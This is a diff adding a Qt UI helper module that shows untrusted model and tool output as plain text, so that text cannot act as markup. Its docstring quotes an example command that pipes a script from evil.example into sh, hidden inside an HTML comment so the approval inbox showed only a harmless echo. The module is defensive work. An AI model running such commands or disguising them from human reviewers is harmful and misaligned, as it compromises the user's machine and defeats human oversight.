@@ -1,0 +1,99 @@
+"""Untrusted text is shown as text, never as markup: what the person reads is what the model, a tool, a
+tool server or a workspace file wrote, every character of it (Q1, Q2, G12, W1).
+
+Qt guesses. A ``QLabel``'s text format is ``Qt.AutoText`` unless told otherwise, and so is a tool tip's
+and a ``QMessageBox``'s: a string that merely *looks* like rich text (``Qt.mightBeRichText``: a known tag
+such as ``<b>``, or ``&lt;``, on its first line) is rendered as HTML. A model's command
+``echo '<b>hello</b><!--' ; curl -s http://evil.example/x | sh ; echo '-->'`` then read "execute echo
+'hello'" in the Decisions inbox, the pipe into ``sh`` hidden in an HTML comment (found by a review of
+the inbox); ``if a<b and c>d`` lost words the same way.
+
+So, in ``workbench/ui``:
+
+- every label is made with ``plain_label`` (``Qt.TextFormat.PlainText``: the text shows character for
+  character, a ``<`` as a ``<``); a label subclass sets the format in its ``__init__`` (``make_plain``);
+- a label that is rich on purpose (our own ``<b>``, ``<code>``, line breaks) is made with ``rich_label``
+  and passes every piece of data it interpolates through ``escape``; the guard in
+  ``tests/ui/test_plain_text.py`` lists each one with why it is safe;
+- a tool tip built from data goes through ``plain_tooltip`` (tool tips have no format switch; it returns
+  text Qt would show plainly anyway unchanged, and anything Qt would read as rich text escaped inside a
+  paragraph laid out as a plain tool tip), in ``setToolTip`` and in a model's ``ToolTipRole``;
+- a message box goes through ``plain_message_box`` (its text and informative text; the detailed text is
+  always plain);
+- a button, radio button or menu entry that shows data goes through ``literal_ampersands``: Qt takes an
+  ``&`` there for a keyboard mnemonic and hides it.
+
+For ordinary text nothing changes: a string that does not look rich was shown plainly before as well.
+"""
+
+from __future__ import annotations
+
+import html
+from typing import Any, TypeVar
+
+from PySide6.QtCore import Qt
+from PySide6.QtGui import Qt as QtGuiNamespace
+from PySide6.QtWidgets import QLabel, QMessageBox
+
+__all__ = ["escape", "literal_ampersands", "make_plain", "plain_label", "plain_message_box", "plain_tooltip",
+           "rich_label"]
+
+L = TypeVar("L", bound=QLabel)
+
+_PLAIN = Qt.TextFormat.PlainText
+_RICH = Qt.TextFormat.RichText
+
+# The paragraph is what makes Qt read the tool tip as rich text, so an escaped ``&lt;`` shows as ``<`` and
+# not as the five characters; ``white-space:pre`` lays it out as a plain tool tip is: its spaces and line
+# breaks kept, no line wrapped (``pre-wrap`` squeezed a few lines into a narrow column, Qt sizing a rich
+# tool tip towards a 5:3 box).
+_TIP_OPEN = "<p style='white-space:pre'>"
+_TIP_CLOSE = "</p>"
+
+
+def escape(text: Any) -> str:
+    """``text`` for rich text of our own: ``&``, ``<`` and ``>`` as entities (quotes are kept: data never
+    goes into an attribute here)."""
+    return html.escape(str(text), quote=False)
+
+
+def make_plain(label: L) -> L:
+    """``label`` shows its text as plain text (every character as written); returns it."""
+    label.setTextFormat(_PLAIN)
+    return label
+
+
+def plain_label(*args: Any, **kwargs: Any) -> QLabel:
+    """A ``QLabel`` (same arguments: ``(parent)`` or ``(text, parent)``) that shows its text as plain
+    text. Every label of the window is one, unless it is a ``rich_label``."""
+    return make_plain(QLabel(*args, **kwargs))
+
+
+def rich_label(*args: Any, **kwargs: Any) -> QLabel:
+    """A ``QLabel`` whose text is our own rich text (``Qt.TextFormat.RichText``, never guessed): every
+    piece of data in it must go through ``escape``."""
+    label = QLabel(*args, **kwargs)
+    label.setTextFormat(_RICH)
+    return label
+
+
+def plain_tooltip(text: Any) -> str:
+    """A tool tip that shows ``text`` as written. Text Qt would show plainly is returned as it is; text
+    Qt would take for rich text (``Qt.mightBeRichText``) is escaped and put in a paragraph laid out as a
+    plain tool tip (spaces and line breaks kept), so every character shows literally."""
+    text = "" if text is None else str(text)
+    if not text or not QtGuiNamespace.mightBeRichText(text):
+        return text
+    return _TIP_OPEN + escape(text) + _TIP_CLOSE
+
+
+def plain_message_box(box: QMessageBox) -> QMessageBox:
+    """``box`` shows its text and informative text as plain text (set before or after); returns it."""
+    box.setTextFormat(_PLAIN)
+    return box
+
+
+def literal_ampersands(text: Any) -> str:
+    """``text`` for a button, radio button or menu entry: each ``&`` doubled, so Qt shows it instead of
+    taking it for a keyboard mnemonic (``R&D`` stays ``R&D``, not ``RD``)."""
+    return str(text).replace("&", "&&")
